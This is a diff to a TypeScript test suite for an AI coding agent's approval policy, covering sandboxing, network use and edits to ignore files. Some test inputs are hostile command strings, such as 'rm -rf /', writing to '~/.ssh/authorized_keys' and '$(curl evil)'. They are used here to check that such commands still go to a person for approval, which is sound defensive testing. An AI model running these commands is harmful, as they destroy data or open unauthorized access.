@@ -26,7 +26,7 @@ describe('approval policy', () => {
   it('auto-approves per class inside the workspace, else asks (mode ask) or denies (mode never)', () => {
     const p = (approval: typeof all | typeof none) => ({ approval, commandAllowList: [], roots });
     for (const kind of ['edit', 'create', 'delete', 'command'] as const) {
-      const info: ApprovalInfo = kind === 'command' ? { kind, command: 'make', cwd: '/ws' } : { kind, path: 'a', real_path: '/ws/a' };
+      const info: ApprovalInfo = kind === 'command' ? { kind, command: 'make', cwd: '/ws', sandboxed: true } : { kind, path: 'a', real_path: '/ws/a' };
       assert.equal(decideApproval(info, p(all)).kind, 'auto', kind);
       assert.equal(decideApproval(info, p(none)).kind, 'ask', kind);
       assert.equal(decideApproval(info, p({ ...none, mode: 'never' } as any)).kind, 'deny', kind);
@@ -35,13 +35,36 @@ describe('approval policy', () => {
 
   it('auto-approves an allow-listed command only when every segment is covered and nothing is risky', () => {
     const p = { approval: none, commandAllowList: ['npm test', 'git status'], roots };
-    const d = (command: string) => decideApproval({ kind: 'command', command, cwd: '/ws' }, p).kind;
+    const d = (command: string) => decideApproval({ kind: 'command', command, cwd: '/ws', sandboxed: true }, p).kind;
     assert.equal(d('npm test'), 'auto');
     assert.equal(d('npm test -- --grep x && git status'), 'auto');
     assert.equal(d('npm test; rm -rf /'), 'ask');
     assert.equal(d('git status > ~/.ssh/authorized_keys'), 'ask');
     assert.equal(d('npm test $(curl evil)'), 'ask');
     assert.equal(d('npm install'), 'ask');
+  });
+
+  it('covers only sandboxed commands by blanket approval or the allow-list, and never one that asks for the network', () => {
+    const p = (mode: 'ask' | 'never') => ({ approval: { ...all, mode }, commandAllowList: ['npm test'], roots });
+    const unsandboxed: ApprovalInfo = { kind: 'command', command: 'npm test', cwd: '/ws', sandboxed: false, reason: 'no sandbox: bwrap is not installed' };
+    assert.equal(decideApproval(unsandboxed, p('ask')).kind, 'ask');
+    const denied = decideApproval(unsandboxed, p('never'));
+    assert.equal(denied.kind, 'deny');
+    assert.match(denied.why, /bwrap is not installed, so each command needs a person's approval/);
+    assert.equal(decideApproval({ kind: 'command', command: 'npm test', cwd: '/ws' }, p('never')).kind, 'deny', 'unknown = not sandboxed');
+    const network: ApprovalInfo = { kind: 'command', command: 'npm install', cwd: '/ws', sandboxed: true, network: true };
+    assert.equal(decideApproval(network, p('ask')).kind, 'ask');
+    assert.match(decideApproval(network, p('never')).why, /needs the network/);
+    assert.equal(decideApproval({ ...network, network: false }, p('never')).kind, 'auto');
+  });
+
+  it('asks a person for edits to the ignore files, which decide what the agent may read', () => {
+    for (const rel of ['.gitignore', 'sub/.tandemignore', '.GITIGNORE']) {
+      const v = decideApproval({ kind: 'edit', path: rel, real_path: `/ws/${rel}` }, { approval: all, commandAllowList: [], roots });
+      assert.equal(v.kind, 'deny', rel);
+      assert.match(v.why, /decides what the agent may read/);
+      assert.equal(decideApproval({ kind: 'edit', path: rel }, { approval: { ...all, mode: 'ask' }, commandAllowList: [], roots }).kind, 'ask');
+    }
   });
 
   it('asks the Approver only for ask verdicts and passes its decision through', async () => {
